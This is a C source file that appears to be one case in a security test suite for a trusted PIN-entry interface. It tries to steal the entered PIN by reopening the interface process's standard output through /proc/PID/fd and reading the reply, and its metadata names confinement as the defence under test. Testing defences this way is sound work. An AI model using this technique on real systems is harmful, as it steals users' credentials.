// SPDX-License-Identifier: Apache-2.0
/*
 * Opens the trusted user interface's standard output again, by /proc/PID/fd, and reads the
 * reply with the PIN.
 *
 * attack: stolen_reply
 * class: process
 * when: session
 * judge: keys
 * unprotected: module
 * defence: confinement
 * why: /proc/PID/fd of a process that has no number in the REE, and wants CAP_SYS_PTRACE
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "process.h"
#include "report.h"

int main(void)
{
	char path[32], buf[4096];
	ssize_t got;
	pid_t pid;
	int fd;

	attack_init();
	attack_ready();
	pid = process_wait_tui();
	if (!pid)
		attack_failed("it sees no tconn-tui");
	snprintf(path, sizeof(path), "/proc/%d/fd/1", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		attack_failed("%s: %s", path, strerror(errno));
	do {
		got = read(fd, buf, sizeof(buf));
		if (got > 0)
			process_report_digits(buf, (size_t)got);
	} while (!attack_wait(50));
	attack_done();
}
